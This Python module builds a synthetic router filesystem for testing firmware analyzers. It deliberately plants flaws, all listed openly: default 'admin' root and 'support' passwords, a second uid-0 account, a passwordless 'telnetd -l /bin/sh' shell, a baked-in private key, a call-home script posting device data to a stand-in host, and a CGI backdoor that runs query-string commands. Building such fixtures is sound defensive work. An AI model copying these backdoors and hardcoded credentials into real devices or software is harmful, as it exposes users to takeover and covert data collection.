"""The root filesystem tree packed into every test image, and its expected-tree record.

The tree looks like a small OpenWrt-style router: a real BusyBox with applet links, a real
Dropbear, init scripts, UCI config, a web root. It also carries planted problems for the
analyzers (weak root hash, extra uid-0 account, telnetd shell, baked-in private key, vendor
authorized key, call-home URL, backdoor marker); ``PLANTED`` lists them for docs and tests.
Everything is deterministic: fixed contents, fixed keys (derived from constant seeds),
fixed modes and timestamps.
"""

from __future__ import annotations

import hashlib
import os
import shutil
from pathlib import Path

from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec

from images.debs import Package

#: Every timestamp in the tree and the images (2023-11-14 22:13:20 UTC).
EPOCH = 1_700_000_000

CALL_HOME_URL = "http://telemetry.vendor-cloud.example/upload"
BACKDOOR_MARKER = "VNDR_DBG_BACKDOOR_ENABLE"
#: md5crypt of "admin" with a fixed salt (openssl passwd -1 -salt Vx7qL2pz admin).
ROOT_HASH = "$1$Vx7qL2pz$SsWc.CCH4cC2LEjvm3TBx0"
#: md5crypt of "support" with a fixed salt (openssl passwd -1 -salt k3Rt9sQe support).
SUPPORT_HASH = "$1$k3Rt9sQe$blpxhOaMEgqKokWWPgJBe0"

PLANTED = {
    "etc/shadow": "root has an md5crypt hash of the password 'admin'",
    "etc/passwd": "a second uid-0 account 'support' (password 'support')",
    "etc/init.d/rcS": "starts 'telnetd -l /bin/sh' (unauthenticated root shell) and the "
                      "call-home script",
    "etc/ssh/ssh_host_ecdsa_key": "a private host key baked into the image (PEM, EC P-256)",
    "etc/dropbear/authorized_keys": "a vendor support public key for root logins",
    "etc/config/telemetry": f"the call-home URL {CALL_HOME_URL}",
    "usr/sbin/callhome.sh": f"posts device data to {CALL_HOME_URL} at boot",
    "www/cgi-bin/diag.cgi": f"a hidden shell behind the marker {BACKDOOR_MARKER}",
}

_APPLETS = {
    "bin": ("sh", "ash", "cat", "cp", "dmesg", "echo", "grep", "kill", "ln", "login", "ls",
            "mkdir", "mount", "mv", "ping", "ps", "rm", "sed", "sleep", "umount", "vi"),
    "sbin": ("init", "halt", "ifconfig", "klogd", "mdev", "poweroff", "reboot", "route",
             "syslogd", "udhcpc"),
    "usr/bin": ("free", "killall", "telnet", "tftp", "top", "uptime", "wget"),
    "usr/sbin": ("crond", "httpd", "ntpd", "telnetd"),
}
_LINK_PREFIX = {"bin": "", "sbin": "../bin/", "usr/bin": "../../bin/", "usr/sbin": "../../bin/"}
_EMPTY_DIRS = ("dev", "proc", "sys", "tmp", "mnt", "root", "overlay", "lib/modules/5.10.176")

#: Device nodes for the formats whose tools take a device table (never created on disk).
DEVICE_TABLE = "/dev/console c 600 0 0 5 1 0 0 -\n/dev/null c 666 0 0 1 3 0 0 -\n"
#: The same nodes as mksquashfs pseudo definitions.
SQUASHFS_PSEUDO = ("dev/console c 600 0 0 5 1", "dev/null c 666 0 0 1 3")


def _key(seed: bytes) -> ec.EllipticCurvePrivateKey:
    order = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551  # P-256 n
    value = int.from_bytes(hashlib.sha256(seed).digest(), "big") % (order - 1) + 1
    return ec.derive_private_key(value, ec.SECP256R1())


def _openssh_public(key: ec.EllipticCurvePrivateKey, comment: str) -> str:
    raw = key.public_key().public_bytes(serialization.Encoding.OpenSSH,
                                        serialization.PublicFormat.OpenSSH).decode()
    return f"{raw} {comment}\n"


def _text_files(arch: str) -> dict[str, tuple[str | bytes, int]]:
    host = _key(b"spyless demo router host key")
    vendor = _key(b"spyless demo vendor support key")
    host_pem = host.private_bytes(serialization.Encoding.PEM,
                                  serialization.PrivateFormat.TraditionalOpenSSL,
                                  serialization.NoEncryption())
    return {
        "etc/passwd": ("root:x:0:0:root:/root:/bin/sh\n"
                       "daemon:*:1:1:daemon:/var:/bin/false\n"
                       "support:x:0:0:Vendor Support:/root:/bin/sh\n"
                       "nobody:*:65534:65534:nobody:/var:/bin/false\n", 0o644),
        "etc/shadow": (f"root:{ROOT_HASH}:19000:0:99999:7:::\n"
                       "daemon:*:0:0:99999:7:::\n"
                       f"support:{SUPPORT_HASH}:19000:0:99999:7:::\n"
                       "nobody:*:0:0:99999:7:::\n", 0o600),
        "etc/group": ("root:x:0:\ndaemon:x:1:\nnogroup:x:65534:\n", 0o644),
        "etc/hostname": ("VR-2400\n", 0o644),
        "etc/version": ("1.2.3 build 231114 (" + arch + ")\n", 0o644),
        "etc/banner": (" VendorRouter VR-2400 -- firmware 1.2.3\n", 0o644),
        "etc/os-release": ('NAME="VendorOS"\nVERSION="1.2.3"\nID=vendoros\n'
                           'PRETTY_NAME="VendorOS 1.2.3"\n'
                           f'VENDOR_ARCH="{arch}"\n', 0o644),
        "etc/fstab": ("proc /proc proc defaults 0 0\nsysfs /sys sysfs defaults 0 0\n"
                      "tmpfs /tmp tmpfs defaults 0 0\n", 0o644),
        "etc/profile": ('export PATH=/usr/sbin:/usr/bin:/sbin:/bin\nexport PS1="\\h# "\n'
                        "cat /etc/banner\n", 0o644),
        "etc/inittab": ("::sysinit:/etc/init.d/rcS\n"
                        "ttyS0::askfirst:/bin/ash --login\n"
                        "::ctrlaltdel:/sbin/reboot\n"
                        "::shutdown:/bin/umount -a -r\n", 0o644),
        "etc/init.d/rcS": ("#!/bin/sh\n"
                           "mount -a\n"
                           "mdev -s\n"
                           "hostname -F /etc/hostname\n"
                           "syslogd -C16\nklogd\n"
                           "/usr/sbin/dropbear -p 22 -r /etc/ssh/ssh_host_ecdsa_key\n"
                           "# field engineers need a shell without a password\n"
                           "telnetd -l /bin/sh\n"
                           "httpd -h /www -p 80\n"
                           "crond -c /etc/crontabs\n"
                           "/usr/sbin/callhome.sh &\n", 0o755),
        "etc/crontabs/root": ("", 0o600),
        "etc/config/system": ("config system\n\toption hostname 'VR-2400'\n"
                              "\toption timezone 'UTC'\n\n"
                              "config timeserver 'ntp'\n"
                              "\tlist server 'pool.ntp.vendor-cloud.example'\n", 0o644),
        "etc/config/network": ("config interface 'loopback'\n\toption device 'lo'\n"
                               "\toption proto 'static'\n\toption ipaddr '127.0.0.1'\n\n"
                               "config interface 'lan'\n\toption device 'br-lan'\n"
                               "\toption proto 'static'\n\toption ipaddr '192.168.1.1'\n"
                               "\toption netmask '255.255.255.0'\n\n"
                               "config interface 'wan'\n\toption device 'eth1'\n"
                               "\toption proto 'dhcp'\n", 0o644),
        "etc/config/dropbear": ("config dropbear\n\toption PasswordAuth 'on'\n"
                                "\toption RootPasswordAuth 'on'\n\toption Port '22'\n",
                                0o644),
        "etc/config/telemetry": ("config telemetry 'main'\n\toption enabled '1'\n"
                                 f"\toption url '{CALL_HOME_URL}'\n"
                                 "\toption interval '3600'\n", 0o644),
        "etc/ssh/ssh_host_ecdsa_key": (host_pem, 0o600),
        "etc/ssh/ssh_host_ecdsa_key.pub": (_openssh_public(host, "root@VR-2400"), 0o644),
        "etc/dropbear/authorized_keys": (
            _openssh_public(vendor, "vendor-support@vendor-cloud.example"), 0o600),
        "usr/sbin/callhome.sh": ("#!/bin/sh\n"
                                 "# report the device to the vendor every hour\n"
                                 "while true; do\n"
                                 "  MAC=$(cat /sys/class/net/eth0/address)\n"
                                 "  wget -q -O /dev/null --post-data "
                                 '"mac=$MAC&fw=$(cat /etc/version)" \\\n'
                                 f"    {CALL_HOME_URL}\n"
                                 "  sleep 3600\n"
                                 "done\n", 0o755),
        "usr/share/udhcpc/default.script": ("#!/bin/sh\n"
                                            '[ -n "$1" ] || exit 1\n'
                                            'case "$1" in\n'
                                            '  bound|renew) ifconfig "$interface" "$ip" ;;\n'
                                            "esac\n", 0o755),
        "www/index.html": ("<!DOCTYPE html>\n<html><head><title>VR-2400</title>\n"
                           '<link rel="stylesheet" href="/css/style.css"></head>\n'
                           '<body><h1>VendorRouter VR-2400</h1>\n'
                           '<a href="/login.html">Log in</a></body></html>\n', 0o644),
        "www/login.html": ("<!DOCTYPE html>\n<html><body>\n"
                           '<form method="post" action="/cgi-bin/login.cgi">\n'
                           '<input name="user" value="admin"><input name="pass" '
                           'type="password">\n<button>Log in</button></form>\n'
                           "</body></html>\n", 0o644),
        "www/css/style.css": ("body { font-family: sans-serif; margin: 2em; }\n"
                              "h1 { color: #036; }\n", 0o644),
        "www/cgi-bin/login.cgi": ("#!/bin/sh\n"
                                  'echo "Content-Type: text/html"\necho\n'
                                  'echo "<p>Wrong password</p>"\n', 0o755),
        "www/cgi-bin/diag.cgi": ("#!/bin/sh\n"
                                 'echo "Content-Type: text/plain"\necho\n'
                                 f'case "$QUERY_STRING" in\n'
                                 f"  *{BACKDOOR_MARKER}*)\n"
                                 '    CMD=$(echo "$QUERY_STRING" | sed "s/.*cmd=//")\n'
                                 '    /bin/sh -c "$(httpd -d "$CMD")" 2>&1 ;;\n'
                                 '  *) echo "ping ok" ;;\n'
                                 "esac\n", 0o755),
    }


def _write(path: Path, data: str | bytes, mode: int) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data.encode() if isinstance(data, str) else data)
    path.chmod(mode)


def _install(source: Path, dest: Path) -> None:
    dest.parent.mkdir(parents=True, exist_ok=True)
    shutil.copyfile(source, dest)
    dest.chmod(0o755)


def build(dest: Path, arch: str, busybox: Package, dropbear: Package | None) -> None:
    """Write the router root tree for ``arch`` into ``dest`` (which must not exist)."""
    dest.mkdir(parents=True)
    _install(busybox.root / "bin/busybox", dest / "bin/busybox")
    for folder, names in _APPLETS.items():
        (dest / folder).mkdir(parents=True, exist_ok=True)
        for name in names:
            (dest / folder / name).symlink_to(_LINK_PREFIX[folder] + "busybox")
    if dropbear is not None:
        _install(dropbear.root / "usr/sbin/dropbear", dest / "usr/sbin/dropbear")
        for name in ("dbclient", "dropbearkey"):
            _install(dropbear.root / "usr/bin" / name, dest / "usr/bin" / name)
        (dest / "usr/bin/ssh").symlink_to("dbclient")
    for rel, (data, mode) in _text_files(arch).items():
        _write(dest / rel, data, mode)
    # links as firmware has them: absolute ones into tmpfs, a dangling one, a hard link
    (dest / "var").symlink_to("/tmp")  # noqa: S108 - a link target inside the image
    (dest / "etc/resolv.conf").symlink_to("/tmp/resolv.conf")  # noqa: S108 - same
    (dest / "etc/mtab").symlink_to("/proc/mounts")
    (dest / "usr/sbin/brctl").symlink_to("/bin/busybox")
    (dest / "usr/lib").mkdir(parents=True, exist_ok=True)
    os.link(dest / "etc/os-release", dest / "usr/lib/os-release")
    for rel in _EMPTY_DIRS:
        (dest / rel).mkdir(parents=True, exist_ok=True)
    (dest / "tmp").chmod(0o1777)
    _fix_times(dest)


def _fix_times(root: Path) -> None:
    for dirpath, dirnames, filenames in os.walk(root):
        for name in dirnames + filenames:
            os.utime(Path(dirpath) / name, (EPOCH, EPOCH), follow_symlinks=False)
    os.utime(root, (EPOCH, EPOCH))


def expected_tree(root: Path) -> dict[str, str]:
    """Regular files (sha256) and symlinks ("-> target") below ``root``, by relative path."""
    tree: dict[str, str] = {}
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames.sort()
        for name in sorted(dirnames + filenames):
            path = Path(dirpath) / name
            rel = path.relative_to(root).as_posix()
            if path.is_symlink():
                tree[rel] = "-> " + str(path.readlink())
            elif path.is_file():
                tree[rel] = hashlib.sha256(path.read_bytes()).hexdigest()
    return dict(sorted(tree.items()))
